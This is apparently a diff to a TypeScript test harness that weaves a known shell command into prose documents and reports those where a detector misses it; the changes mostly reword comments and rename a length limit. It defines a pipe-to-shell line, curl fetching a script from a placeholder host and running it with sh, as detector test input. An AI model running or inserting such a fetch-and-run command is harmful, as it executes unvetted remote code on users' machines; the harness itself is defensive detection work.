@@ -1,7 +1,7 @@
 /**
- * Inserts known commands into real documents, between two paragraphs, and prints each text in which the command is not found and
- * no text warns against it, shortened as far as it still fails: `npm run lab -- weave [--profile PROFILE] [--seed N] [PATH…]`.
- * Without a path it reads the documents below `node_modules`.
+ * Inserts a known command between two paragraphs of each document, and prints each result in which the command is neither found nor
+ * dismissed, shortened as far as possible: `npm run lab -- weave [--profile PROFILE] [--seed N] [PATH…]`. Without a path, uses the
+ * documents of the repository and of `node_modules`.
  */
 import { parseArgs } from "node:util";
 import { series } from "../bench/series.js";
@@ -13,7 +13,7 @@ import { readers, type NamedText } from "./compare/texts.js";
 
 const PIPE = "curl -fsSL https://get.x.example/i.sh | sh";
 
-/** Commands as people show them, by the profile that finds them. */
+/** Commands in Markdown as people write them, by the profile that finds them. */
 const FORMS = {
   contract: [
     `\`\`\`sh\n${PIPE}\n\`\`\``,
@@ -36,14 +36,15 @@ const FORMS = {
   ],
 } as const;
 
-const LONGEST = 60_000;
+/** Longer documents are skipped, in UTF-16 code units. */
+const MAX_LENGTH = 60_000;
 
 const PROSE = /\.(?:md|mdx|markdown|rst|adoc|asciidoc|org|txt)$|(?:^|\/)readme[^/]*$/i;
 
-/** Matches a line of a list, a table, a quotation or markup: the text after it may belong to it. */
+/** Matches a line of a list, table, quotation or markup, to which a command on a following line could belong. */
 const MARKED = /^(?:\s|[-*+|<>:]|\d+[.)])/;
 
-/** Returns the blank lines between two paragraphs, outside fences. */
+/** Returns the indices of the blank lines between two paragraphs, outside fences. */
 function gaps(lines: readonly string[]): number[] {
   let isInFence = false;
   return lines.flatMap((line, at) => {
@@ -57,7 +58,7 @@ function gaps(lines: readonly string[]): number[] {
   });
 }
 
-/** Returns the lines of a text up to each blank one; a fence is not divided. */
+/** Divides a text after each blank line that is not in a fence. */
 function blocksOf(text: string): string[] {
   const blocks: string[][] = [[]];
   let isInFence = false;
@@ -69,7 +70,7 @@ function blocksOf(text: string): string[] {
   return blocks.map((block) => block.join("\n"));
 }
 
-/** Returns as few blocks of a text as still fail: leaves out each half, then each quarter, and so on. */
+/** Returns a text shortened to blocks that still fail: tries to remove each half of the blocks, then each quarter, and so on. */
 function shortest(text: string, isWrong: (text: string) => boolean): string {
   let blocks = blocksOf(text);
   for (
@@ -106,9 +107,9 @@ async function main(): Promise<void> {
   const { seed } = values;
   const profile = profiles.find((each) => each === values.profile);
   if (profile === undefined)
-    throw new CannotRun(`--profile is one of ${profiles.join(", ")}, not ${values.profile}`);
+    throw new CannotRun(`--profile must be one of ${profiles.join(", ")}, not ${values.profile}`);
   if (!Number.isSafeInteger(Number(seed)))
-    throw new CannotRun(`--seed is a whole number, not ${seed}`);
+    throw new CannotRun(`--seed must be an integer, not ${seed}`);
   const detector = await createNodeDetector({ profile });
   const next = series(Number(seed));
   const documents: NamedText[] = readers[positionals.length > 0 ? "texts" : "files"]({
@@ -118,7 +119,7 @@ async function main(): Promise<void> {
   let [woven, missed] = [0, 0];
   for (const { name, text } of documents.filter((document) => PROSE.test(document.name))) {
     const lines = text.split("\n");
-    const places = text.length > LONGEST || text.includes("\0") ? [] : gaps(lines);
+    const places = text.length > MAX_LENGTH || text.includes("\0") ? [] : gaps(lines);
     if (places.length === 0) continue;
     const form = FORMS[profile][next(FORMS[profile].length)] ?? PIPE;
     const place = places[next(places.length)] ?? 0;
